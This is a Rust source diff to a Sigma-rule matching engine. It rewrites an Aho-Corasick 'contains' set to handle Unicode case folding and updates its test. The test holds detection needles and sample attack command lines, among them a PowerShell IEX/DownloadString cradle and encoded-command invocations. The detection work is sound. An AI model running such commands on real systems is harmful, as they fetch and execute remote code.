@@ -507,34 +507,44 @@ enum Kind {
     Glob(Glob),
 }
 
-/// Many case-insensitive `contains` values searched in one pass: one Aho-Corasick automaton
-/// over their folded needles, built once per value list (a SigmaHQ rule may list hundreds of
-/// command-line fragments for one field; searching each on its own read the text hundreds of
-/// times). Exact where [`StringMatcher::is_match`] compares ASCII case-insensitively on the
-/// raw bytes; [`ContainsSet::is_match`] says `None` otherwise, and the caller asks each
-/// matcher.
+/// Many case-insensitive `contains` values searched in one pass: Aho-Corasick automata over
+/// their folded needles, built once per value list (a SigmaHQ rule may list hundreds of
+/// command-line fragments for one field, and `windash` makes five of each; searching each on
+/// its own read the text hundreds of times). The same verdict as each
+/// [`StringMatcher::is_match`]: an ASCII text is searched ASCII case-insensitively for the
+/// ASCII needles (no other can occur in it), any other text is folded and searched for every
+/// needle.
 #[derive(Debug, Clone)]
 pub struct ContainsSet {
-    automaton: aho_corasick::AhoCorasick,
+    ascii: Option<aho_corasick::AhoCorasick>,
+    folded: aho_corasick::AhoCorasick,
 }
 
 impl ContainsSet {
-    /// The set of the needles of `contains` matchers, from [`StringMatcher::ascii_contains`].
+    /// The set of the needles of `contains` matchers, from [`StringMatcher::contains_needle`].
     pub fn new(needles: &[&str]) -> Option<ContainsSet> {
-        aho_corasick::AhoCorasickBuilder::new()
-            .ascii_case_insensitive(true)
-            .build(needles)
-            .ok()
-            .map(|automaton| ContainsSet { automaton })
+        let ascii: Vec<&str> = needles.iter().copied().filter(|n| n.is_ascii()).collect();
+        let ascii = if ascii.is_empty() {
+            None
+        } else {
+            Some(
+                aho_corasick::AhoCorasickBuilder::new()
+                    .ascii_case_insensitive(true)
+                    .build(&ascii)
+                    .ok()?,
+            )
+        };
+        let folded = aho_corasick::AhoCorasick::new(needles).ok()?;
+        Some(ContainsSet { ascii, folded })
     }
 
-    /// Whether some needle occurs in `text`, or `None` when `text` holds a character whose
-    /// fold is ASCII although it is not (`İ`, the Kelvin sign), which bytes cannot tell.
-    pub fn is_match(&self, text: &str) -> Option<bool> {
-        if !text.is_ascii() && has_ascii_folding(text) {
-            return None;
+    /// Whether some needle occurs in `text`.
+    pub fn is_match(&self, text: &str) -> bool {
+        if text.is_ascii() {
+            self.ascii.as_ref().is_some_and(|a| a.is_match(text))
+        } else {
+            self.folded.is_match(&fold_str(text))
         }
-        Some(self.automaton.is_match(text))
     }
 }
 
@@ -621,11 +631,11 @@ impl StringMatcher {
         }
     }
 
-    /// The folded needle of a case-insensitive `contains` matcher whose folded pattern is
-    /// ASCII (`*needle*`): what a [`ContainsSet`] can search for it.
-    pub fn ascii_contains(&self) -> Option<&str> {
+    /// The folded needle of a case-insensitive `contains` matcher (`*needle*`): what a
+    /// [`ContainsSet`] searches for it.
+    pub fn contains_needle(&self) -> Option<&str> {
         match &self.kind {
-            Kind::Contains(p) if !self.cased && self.ascii => Some(p),
+            Kind::Contains(p) if !self.cased => Some(p),
             _ => None,
         }
     }
@@ -824,6 +834,20 @@ struct BudgetExhausted;
 /// searcher looks for the needle's least common byte, so that SIMD `memchr` skips most of the
 /// haystack and few candidates need checking.
 fn commonness(b: u8) -> u8 {
+    COMMONNESS[usize::from(b)]
+}
+
+const COMMONNESS: [u8; 256] = {
+    let mut table = [0u8; 256];
+    let mut b = 0;
+    while b < 256 {
+        table[b] = commonness_of(b as u8);
+        b += 1;
+    }
+    table
+};
+
+const fn commonness_of(b: u8) -> u8 {
     match b.to_ascii_lowercase() {
         b'\\' | b' ' | b'.' | b'-' | b'/' | b':' | b'"' | b'=' | b',' | b'_' => 255,
         b'e' | b't' | b'a' | b'o' | b'i' | b'n' | b's' | b'r' => 200,
@@ -1277,6 +1301,8 @@ mod tests {
 
     #[test]
     fn a_contains_set_agrees_with_its_matchers() {
+        // ASCII needles, one folding from non-ASCII (`İnvoke`), non-ASCII ones (windash's en
+        // dash, Greek with final sigma).
         let values = [
             "\\cmd.exe",
             "-EncodedCommand",
@@ -1284,39 +1310,44 @@ mod tests {
             "kelvin",
             "DownloadString",
             "ab",
+            "\u{2013}enc",
+            "ΟΔΟΣ",
         ];
         let matchers: Vec<StringMatcher> = values
             .iter()
             .map(|v| StringMatcher::new(&SigmaString::parse(v).contains(), false).unwrap())
             .collect();
-        // Only case-insensitive ASCII needles go into a set (`İnvoke` folds to `invoke` and
-        // stays ASCII; a cased matcher does not).
-        let needles: Vec<&str> = matchers.iter().filter_map(|m| m.ascii_contains()).collect();
+        let needles: Vec<&str> = matchers
+            .iter()
+            .filter_map(|m| m.contains_needle())
+            .collect();
         assert_eq!(needles.len(), values.len());
         let cased = StringMatcher::new(&SigmaString::parse("x").contains(), true).unwrap();
-        assert!(cased.ascii_contains().is_none());
+        assert!(cased.contains_needle().is_none());
         let set = ContainsSet::new(&needles).unwrap();
         let texts = [
             "C:\\Windows\\System32\\CMD.EXE /c dir",
             "powershell -encodedcommand SQBFAFgA",
+            "powershell \u{2013}ENC SQBFAFgA",
+            "powershell \u{2014}enc SQBFAFgA",
             "IEX (New-Object Net.WebClient).downloadstring('http://x')",
             "invoke-mimikatz",
+            "\u{130}NVOKE-x",
             "nothing here",
             "Ünïcödé but no needle",
+            "Ünïcödé DOWNLOADSTRING",
             "\u{212A}elvin",
             "a\u{130}b",
+            "οδος",
+            "ΟΔΟς",
             "",
         ];
         for text in texts {
             let each = matchers.iter().any(|m| m.is_match(text));
-            match set.is_match(text) {
-                Some(found) => assert_eq!(found, each, "{text:?}"),
-                // Characters whose fold is ASCII are left to the matchers.
-                None => assert!(text.chars().any(folds_to_ascii), "{text:?}"),
-            }
+            assert_eq!(set.is_match(text), each, "{text:?}");
         }
-        assert_eq!(set.is_match("KELVIN"), Some(true));
-        assert_eq!(set.is_match("\u{212A}elvin"), None);
+        assert!(set.is_match("\u{212A}ELVIN") && set.is_match("\u{130}nvoke"));
+        assert!(!set.is_match("a-enc") && !set.is_match("Ünïcödé"));
     }
 
     #[test]
